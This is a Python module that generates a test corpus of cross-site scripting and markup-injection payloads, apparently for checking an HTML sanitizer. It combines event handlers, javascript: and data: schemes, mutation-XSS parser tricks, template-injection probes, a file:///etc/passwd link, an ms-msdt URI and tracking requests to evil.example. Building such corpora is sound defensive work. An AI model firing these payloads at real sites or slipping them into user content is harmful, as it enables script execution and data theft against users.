"""What people write who hope that a page takes their words for markup. Our own list."""

# ruff: noqa: E501
from __future__ import annotations

from itertools import product

_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin")
_ELEMENTS = (
    "<img src=x {h}={a}>", "<svg {h}={a}>", "<body {h}={a}>", "<details open {h}={a}>x</details>",
    "<input autofocus {h}={a}>", "<video><source {h}={a}></video>", "<svg><animate {h}={a}>",
    "<marquee {h}={a}>x", "<iframe {h}={a}></iframe>", "<a href=# {h}={a}>x</a>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{a}", "JaVaScRiPt:{a}", "java\nscript:{a}", "\x01javascript:{a}", "vbscript:{a}",
    "data:text/html,<script>{a}</script>", "data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=",
    "&#106;avascript:{a}", "javascript&colon;{a}", "file:///etc/passwd", "ms-msdt:/id", "//evil.example",
)  # fmt: skip
_CARRIERS = (
    '<a href="{u}">x</a>', '<iframe src="{u}"></iframe>', '<form action="{u}"><button>x</form>',
    '<object data="{u}"></object>', '<embed src="{u}">', '<base href="{u}">',
    '<meta http-equiv=refresh content="0;url={u}">', '<svg><a xlink:href="{u}"><text>x</svg>',
    '<link rel=stylesheet href="{u}">', '<math href="{u}">x</math>',
)  # fmt: skip
_LOOSE = (
    "<script>{a}</script>", "</textarea><script>{a}</script>", "</title><script>{a}</script>",
    "'\"><script>{a}</script>", "\"><img src=x onerror={a}>", "' onmouseover='{a}", '" autofocus onfocus="{a}',
    "`><script>{a}</script>", "--><script>{a}</script>", "]]><script>{a}</script>",
    "<scr<script>ipt>{a}</scr</script>ipt>", "<<script>{a}//<</script>", "<script\x0c>{a}</script>",
    "<svg><script>{a}</script></svg>", "<math><mi><mglyph><style><img src=x onerror={a}>",
    "<noscript><p title='</noscript><img src=x onerror={a}>'>", "<style><img src='</style><img src=x onerror={a}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={a}>",
    "<svg></p><style><a id='</style><img src=1 onerror={a}>'>", "<template><script>{a}</script></template>",
    "<xmp><img src=x onerror={a}></xmp>", "<plaintext><script>{a}</script>", "<!--<img src='--><img src=x onerror={a}>'>",
    "<div style='background:url(javascript:{a})'>x", "<p style='position:fixed;inset:0'>x", "<style>@import '//evil.example'</style>",
    "{{{{7*7}}}}", "{{% for x in config %}}", "${{{a}}}", "<%= {a} %>", "{{{{ self.__class__ }}}}", "#{{{a}}}",
    "<img src='//evil.example/p.gif'>", "<img srcset='//evil.example/p.gif 2x'>", "<picture><source srcset=//evil.example>",
    "<table background='//evil.example/p.gif'><td>x", "<audio src=//evil.example autoplay>", "<button formaction=javascript:{a}>x",
    "<div hx-get='/cases/1001' hx-trigger='load'>x", "<a id=live data-version=1>x", "<input name=version value=9>",
    "\u202egnp.exe", "\u2066x\u2069", "<bdo dir=rtl>x", "\u0000<script>{a}</script>", "&lt;script&gt;{a}&lt;/script&gt;",
)  # fmt: skip

PAYLOADS = tuple(
    dict.fromkeys(
        [carrier.format(h=h, a="boom()") for carrier, h in product(_ELEMENTS, _HANDLERS)]
        + [
            carrier.format(u=scheme.format(a="boom()"))
            for carrier, scheme in product(_CARRIERS, _SCHEMES)
        ]
        + [loose.format(a="boom()") for loose in _LOOSE]
    )
)
